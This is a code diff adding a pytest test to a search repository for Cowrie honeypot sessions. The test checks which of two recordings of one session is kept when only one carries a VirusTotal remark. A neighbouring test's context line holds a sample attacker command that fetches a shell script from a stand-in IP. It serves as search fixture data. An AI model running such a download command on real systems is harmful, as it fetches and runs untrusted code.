@@ -138,6 +138,19 @@ async def test_every_text_that_is_stored_is_searched(repo: BaseRepository) -> No
         assert await found(repo, text) == hits, text
 
 
+@pytest.mark.parametrize("first", [0, 1])
+async def test_of_two_tellings_of_one_end_the_one_that_says_more_counts(
+    repo: BaseRepository, first: int
+) -> None:
+    for n in range(8):
+        remark = {"eventid": "cowrie.virustotal.scanfile", "fields": {"permalink": f"late-{n}-remark"}}
+        tellings = [session(f"told{n}", NEW, 9100.0), session(f"told{n}", NEW, 9100.0, extras=[remark])]
+        for event in (tellings[first], tellings[1 - first]):
+            async with repo.transaction() as bound:
+                await RecorderWorker(load_settings()).handle([event], Transaction(bound))
+        assert await found(repo, f"late-{n}-remark") == [("other", f"late-{n}-remark")]
+
+
 async def test_text_is_text(repo: BaseRepository) -> None:
     """Wildcards and quotes of the database's language mean themselves."""
     assert await found(repo, "100%_a") == [("command", "WGET http://203.0.113.9/100%_a.sh")]
